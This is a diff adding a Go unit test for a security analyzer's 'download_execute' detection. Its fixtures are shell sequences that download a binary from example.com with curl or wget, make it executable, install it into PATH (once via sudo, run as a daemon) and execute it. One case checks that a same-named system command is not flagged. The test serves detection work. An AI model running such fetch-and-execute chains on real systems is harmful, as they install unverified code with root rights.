@@ -0,0 +1,51 @@
+package semantic
+
+import (
+	"strings"
+	"testing"
+)
+
+func TestDownloadExecutedByName(t *testing.T) {
+	tests := []struct {
+		name    string
+		content string
+		path    string // Ruta ejecutada; vacía si no debe haber download_execute
+	}{
+		{
+			name:    "mv al PATH",
+			content: "curl -o /tmp/h http://example.com/h\nchmod +x /tmp/h\nmv /tmp/h /usr/local/bin/helper\nhelper",
+			path:    "/usr/local/bin/helper",
+		},
+		{
+			name:    "install con sudo",
+			content: "wget -O /tmp/agent http://example.com/agent\nsudo install /tmp/agent /usr/bin/agent\nsudo agent --daemon",
+			path:    "/usr/bin/agent",
+		},
+		{
+			name:    "cp al bin del usuario",
+			content: "curl -o tool http://example.com/tool\nchmod 755 tool\nmkdir -p ~/.local/bin\ncp tool ~/.local/bin/\ntool",
+			path:    "/home/user/.local/bin/tool",
+		},
+		{
+			name:    "comando del sistema con el mismo nombre que la descarga",
+			content: "curl -o /tmp/ls http://example.com/ls\nls",
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			var executed []string
+			for _, threat := range analyzeSession(t, NewAnalyzer(), tt.content) {
+				if threat.Type == "download_execute" {
+					executed = append(executed, threat.Description)
+				}
+			}
+			switch {
+			case tt.path == "" && len(executed) > 0:
+				t.Errorf("download_execute inesperado: %v", executed)
+			case tt.path != "" && (len(executed) != 1 || !strings.Contains(executed[0], "como "+tt.path+" ")):
+				t.Errorf("download_execute = %v, se esperaba la ejecución de %s", executed, tt.path)
+			}
+		})
+	}
+}